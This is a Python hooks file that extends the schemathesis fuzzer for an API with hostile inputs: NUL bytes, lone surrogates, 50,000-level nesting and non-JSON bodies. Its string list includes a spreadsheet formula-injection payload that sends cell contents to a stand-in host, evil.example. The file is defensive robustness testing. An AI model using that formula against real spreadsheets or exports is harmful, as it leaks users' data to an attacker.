"""schemathesis hooks for scripts/fuzz_api.py: hostile input on top of the
schema's own.

schemathesis draws values that fit the schema, encoded as UTF-8, so it never
sent a lone surrogate, never nested deeper than the schema, and rarely put a
NUL where it would be stored (a visit's browser is only stored when its URL
matches a contract, which random URLs never do). These hooks make hypothesis
also draw, for any body, one of: a string leaf replaced by a hostile string
(NUL, a formula, a URL as a browser name), a raw JSON body with lone
surrogates in every usual field, the body nested 50,000 levels deep, or a
body that is not JSON; and, for any query, a NUL in a parameter. The draws
are hypothesis', so `--seed` replays them.
"""

from typing import Any

import schemathesis
from hypothesis import strategies as st

# Strings UTF-8 can carry; lone surrogates cannot, so they go in a raw body.
HOSTILE_STRINGS = [
    "Chr\x00ome",
    "\x00",
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "https://console.aws.amazon.com/iam/home?secret=x",
    "co.uk",
]
# Markers a body carries from the body hook to before_call, which replaces
# the whole request body with bytes no JSON encoder would write.
DEEP = "\u2063fuzz-deep-nesting"
NOT_JSON = "\u2063fuzz-not-json"
SURROGATES = "\u2063fuzz-surrogates"
RAW_BODIES = {
    DEEP: '{"email": ' + "[" * 50_000 + "]" * 50_000 + "}",
    NOT_JSON: "{'not': json}",
    SURROGATES: (
        '{"email": "a\\ud800@acme.io", "password": "\\udfff", "role": "\\ud800",'
        ' "device_id": "\\ud800", "vendor_name": "\\ud800", "product_url":'
        ' "\\ud800", "paused": "\\ud800", "refresh": "\\ud800", "entries":'
        ' [{"url": "https://app.slack.com/", "timestamp": 0, "browser": "\\ud800"}]}'
    ),
}
# A visit that matches a seeded contract, so that its browser is stored.
SLACK_VISIT = {"url": "https://app.slack.com/client", "timestamp": 0}


def _poisoned(body: Any, text: str) -> Any:
    """`body` with its first string leaf (or key, for an empty object) `text`."""
    if isinstance(body, str):
        return text
    if isinstance(body, dict):
        if "entries" in body:
            return {**body, "entries": [{**SLACK_VISIT, "browser": text}]}
        for key, value in body.items():
            if isinstance(value, str):
                return {**body, key: text}
        return {**body, text: "x"}
    if isinstance(body, list) and body:
        return [_poisoned(body[0], text), *body[1:]]
    return body


@schemathesis.hook
def flatmap_body(context: Any, body: Any) -> Any:
    if not isinstance(body, dict | list | str):
        return st.just(body)
    return st.one_of(
        st.just(body),
        st.sampled_from(HOSTILE_STRINGS).map(lambda text: _poisoned(body, text)),
        st.sampled_from([{marker: True} for marker in RAW_BODIES]),
    )


@schemathesis.hook
def flatmap_query(context: Any, query: Any) -> Any:
    if not query:
        return st.just(query)
    name = next(iter(query))
    return st.one_of(st.just(query), st.just({**query, name: "a\x00b"}))


@schemathesis.hook
def before_call(context: Any, case: Any, kwargs: dict[str, Any]) -> None:
    body = case.body
    if not isinstance(body, dict):
        return
    markers = [marker for marker in RAW_BODIES if marker in body]
    if not markers:
        return
    # schemathesis sends a bytes body as it is, not encoded again; as JSON
    # even where the operation also reads another media type.
    case.body = RAW_BODIES[markers[0]].encode()
    case.media_type = "application/json"
